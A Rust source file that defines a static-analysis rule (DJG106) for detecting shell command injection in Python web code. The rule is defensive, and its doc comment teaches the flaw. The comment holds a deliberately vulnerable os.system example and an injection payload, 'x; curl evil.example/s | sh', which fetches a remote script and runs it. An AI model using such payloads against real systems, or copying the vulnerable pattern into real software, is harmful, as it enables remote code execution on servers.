//! # DJG106: Shell command built from request data (command injection)
//!
//! ## What it does
//! Follows request data into commands run by a shell: `os.system()`, `os.popen()`, and
//! `subprocess.run/call/check_call/check_output/Popen(..., shell=True)`. A proven flow is high
//! confidence; a non-constant command that djguard cannot trace to a request is low
//! confidence. A list of arguments without `shell=True` is not reported: no shell parses it.
//!
//! ## Why is this bad?
//! The shell interprets `;`, `|`, `$(...)` and backticks. A file name like
//! `x; curl evil.example/s | sh` runs the attacker's program with the web server's rights.
//!
//! ## Example
//! ```python
//! def thumbnail(request):
//!     name = request.GET["file"]
//!     os.system(f"convert {name} -resize 64x64 thumb.png")
//! ```
//!
//! ## Fix
//! Pass a list and no shell: `subprocess.run(["convert", name, "-resize", "64x64",
//! "thumb.png"], check=True)`; if a shell is unavoidable, quote every value with
//! `shlex.quote()`. Validate file names against what you expect.
//!
//! ## References
//! - Python documentation: subprocess → Security Considerations
//! - OWASP OS Command Injection Defense Cheat Sheet
//! - CWE-78: Improper Neutralization of Special Elements used in an OS Command

use super::{ArgRef, CallSite, Checked, Low, Sink, TaintRule};
use crate::finding::Severity;
use crate::python::ast::Expr;
use crate::rules::RuleMeta;

pub static RULE: TaintRule = TaintRule {
    meta: RuleMeta {
        id: "DJG106",
        title: "Shell command built from request data (command injection)",
        severity: Severity::Critical,
        cwe: Some(78),
        groups: &["code"],
    },
    names: &[
        "system",
        "popen",
        "getoutput",
        "getstatusoutput",
        "run",
        "call",
        "check_call",
        "check_output",
        "Popen",
    ],
    sinks,
    fix: "Run the program with a list of arguments and no shell (subprocess.run([\"prog\", value], check=True)); if a shell is unavoidable, shlex.quote() every value.",
};

fn sinks(site: &CallSite, out: &mut Vec<Sink>) {
    let Some(q) = site.qualname else { return };
    let name = match q {
        "os.system"
        | "os.popen"
        | "commands.getoutput"
        | "subprocess.getoutput"
        | "subprocess.getstatusoutput" => q,
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.Popen" => {
            let shell = site.keyword("shell").is_some_and(|e| {
                !matches!(e, Expr::BooleanLiteral(b) if !b.value)
                    && !matches!(e, Expr::NoneLiteral(_))
            });
            if !shell {
                return;
            }
            q
        }
        _ => return,
    };
    out.push(Sink {
        rule: &RULE.meta,
        name: format!("{name}()"),
        args: vec![ArgRef::PosOrKw(0, "args")],
        low: Low::NonConstant,
        checked: Checked::Nothing,
        origin_only: false,
    });
}
